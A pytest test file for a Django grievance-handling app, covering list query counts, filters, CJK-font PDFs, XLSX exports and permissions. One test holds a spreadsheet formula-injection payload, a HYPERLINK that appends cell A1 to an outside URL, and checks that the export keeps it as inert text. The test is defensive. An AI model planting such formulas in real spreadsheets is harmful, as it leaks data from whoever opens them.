"""Staff lists keep a fixed number of queries; documents print in a CJK font."""

import re
import subprocess

import pytest
from openpyxl import load_workbook

from grievances import services
from grievances.models import Grievance
from tests import factories


def _many(demo, member, n, start=0):
    employee = member("employee").user
    for i in range(start, start + n):
        services.grievance_submit(
            enterprise=demo,
            by=employee,
            kind="grievance",
            content=f"诉求内容 {i}",
            disclosure=["named", "confidential", "anonymous"][i % 3],
        )


def _queries_for(client, url, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
    assert response.status_code == 200
    return len(ctx.captured_queries)


def test_staff_list_costs_the_same_queries_for_3_and_20_items(
    demo, login, member, make_item, django_assert_num_queries
):
    client = login("union_chair")
    _many(demo, member, 3)
    for g in Grievance.objects.all()[:2]:
        g.departments.set(demo.departments.all()[:2])
    client.get("/e/demo/grievances/all/?status=submitted")  # warm the session and caches
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        assert client.get("/e/demo/grievances/all/?status=submitted").status_code == 200
    queries = len(few.captured_queries)  # (the next request resets Django's query log)
    _many(demo, member, 17, start=3)
    for g in Grievance.objects.all():
        g.departments.set(demo.departments.all()[:2])
    client.get("/e/demo/grievances/all/?status=submitted")  # new items dropped cached figures
    with django_assert_num_queries(queries):
        response = client.get("/e/demo/grievances/all/?status=submitted")
    assert response.status_code == 200
    assert response.content.decode().count("诉求内容") == 20


def test_department_queue_costs_the_same_queries_for_1_and_4_items(
    demo, login, make_item, django_assert_num_queries
):
    client = login("dept_head")
    make_item("routed_department")
    client.get("/e/demo/grievances/queue/department/")
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as few:
        client.get("/e/demo/grievances/queue/department/")
    for _ in range(3):
        make_item("routed_department")
    with django_assert_num_queries(len(few.captured_queries)):
        response = client.get("/e/demo/grievances/queue/department/")
    assert response.content.decode().count("食堂饭菜价格偏高") == 4


def test_list_filters_by_status_and_text(demo, login, make_item):
    make_item("submitted", content="宿舍空调坏了")
    make_item("verified", content="班车时间不合理")
    client = login("union_staff")
    page = client.get("/e/demo/grievances/all/?status=verified").content.decode()
    assert "班车时间不合理" in page and "宿舍空调坏了" not in page
    page = client.get("/e/demo/grievances/all/?q=空调").content.decode()
    assert "宿舍空调坏了" in page and "班车时间不合理" not in page


def test_employee_cannot_open_the_staff_list(demo, login):
    assert login("employee").get("/e/demo/grievances/all/").status_code == 403


def _pdffonts(content: bytes, tmp_path) -> str:
    path = tmp_path / "doc.pdf"
    path.write_bytes(content)
    return subprocess.run(["pdffonts", str(path)], capture_output=True, text=True).stdout


def test_record_form_prints_with_a_cjk_font_and_ticks_the_channel(demo, login, make_item, tmp_path):
    g = make_item("answered")
    response = login("union_chair").get(f"/e/demo/documents/grievance_record/{g.pk}.pdf")
    assert response.status_code == 200
    assert "CJK" in _pdffonts(response.content, tmp_path)
    path = tmp_path / "doc.pdf"
    text = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout
    assert "☑网络" in text.replace(" ", "") or "☑ 网络" in text
    for label in ["职工诉求记录表", g.number, "孙立", "吴海", "郑芳", "下月起调整价格"]:
        assert label in text, label


def test_summary_table_groups_by_class_in_pdf_and_xlsx(demo, login, make_item, tmp_path):
    g = make_item("classified", content="工资发放不及时")
    client = login("union_staff")
    pdf = client.get("/e/demo/documents/summary_table.pdf")
    assert pdf.status_code == 200 and "CJK" in _pdffonts(pdf.content, tmp_path)
    xlsx = client.get("/e/demo/documents/summary_table.xlsx")
    assert xlsx.status_code == 200
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"".join(xlsx.streaming_content))  # sent in chunks
    rows = list(load_workbook(path).active.iter_rows(values_only=True))
    assert rows[1] == ("类别", "内容", "责任部门", "责任人", "备注")
    assert (g.category.top.name, "工资发放不及时", "人力资源部", "郑芳") == rows[2][:4]


@pytest.mark.parametrize("fmt", ["doc", "csv"])
def test_summary_table_in_another_format_answers_404(demo, login, fmt):
    assert login("union_staff").get(f"/e/demo/documents/summary_table.{fmt}").status_code == 404


def test_overdue_filter_shows_old_open_items_only(demo, login, make_item):
    import datetime

    import time_machine

    with time_machine.travel(datetime.timedelta(days=-40)):
        make_item("submitted", content="很久以前的诉求")
    make_item("submitted", content="今天的诉求")
    page = login("union_staff").get("/e/demo/grievances/all/?overdue=on").content.decode()
    assert "很久以前的诉求" in page and "今天的诉求" not in page


def _routed_item(demo, member, *, content, responsible_person):
    """A named item routed to 人力资源部, through the public services like make_item."""
    return factories.grievance(
        "routed_department",
        enterprise=demo,
        content=content,
        disclosure="named",
        responsible_person=responsible_person,
    )


FORMULA = '=HYPERLINK("http://x/?"&A1,"点此查看")'


def test_summary_xlsx_keeps_formula_like_text_as_text(demo, member, login, tmp_path):
    import zipfile

    _routed_item(demo, member, content=FORMULA, responsible_person="=1+2")
    _routed_item(demo, member, content="@SUM(1,2)\t含制表符", responsible_person="-3+4")
    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
    assert response.status_code == 200
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    sheet = load_workbook(path).active
    cells = {c.value: c for row in sheet.iter_rows(min_row=3) for c in row if c.value}
    for text in (FORMULA, "=1+2", "@SUM(1,2)\t含制表符", "-3+4"):
        assert cells[text].data_type == "s", text
    with zipfile.ZipFile(path) as xlsx:
        sheet_xml = xlsx.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml


def test_summary_xlsx_drops_characters_a_spreadsheet_cannot_hold(demo, member, login, tmp_path):
    _routed_item(demo, member, content="门禁\x07坏了\x1b", responsible_person="郑芳")
    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
    assert response.status_code == 200
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    values = [c.value for row in load_workbook(path).active.iter_rows(min_row=3) for c in row]
    assert "门禁坏了" in values


def test_summary_xlsx_prints_landscape_with_the_header_on_every_page(
    demo, login, make_item, tmp_path
):
    make_item("classified")
    response = login("union_staff").get("/e/demo/documents/summary_table.xlsx")
    path = tmp_path / "t.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    sheet = load_workbook(path).active
    assert re.search(r"议题梳理汇总分类表（\d{4}年度）$", sheet["A1"].value)
    assert sheet.freeze_panes == "A3"
    assert sheet.print_title_rows == "$2:$2"
    assert sheet.page_setup.orientation == "landscape"
    assert sheet.page_setup.paperSize == 9  # A4
    assert sheet.column_dimensions["B"].width == 66  # 内容 gets most of the width


def test_employee_may_not_print_the_summary_table(demo, login):
    for fmt in ("pdf", "xlsx"):
        assert login("employee").get(f"/e/demo/documents/summary_table.{fmt}").status_code == 403


def test_employee_sees_their_item_but_may_not_print_its_record_form(demo, login, make_item):
    g = make_item("submitted")
    client = login("employee")
    assert client.get(f"/e/demo/grievances/{g.pk}/").status_code == 200
    assert client.get(f"/e/demo/documents/grievance_record/{g.pk}.pdf").status_code == 403


def test_the_department_an_item_is_routed_to_prints_its_record_form(demo, login, make_item):
    g = make_item("routed_department")
    response = login("dept_head").get(f"/e/demo/documents/grievance_record/{g.pk}.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
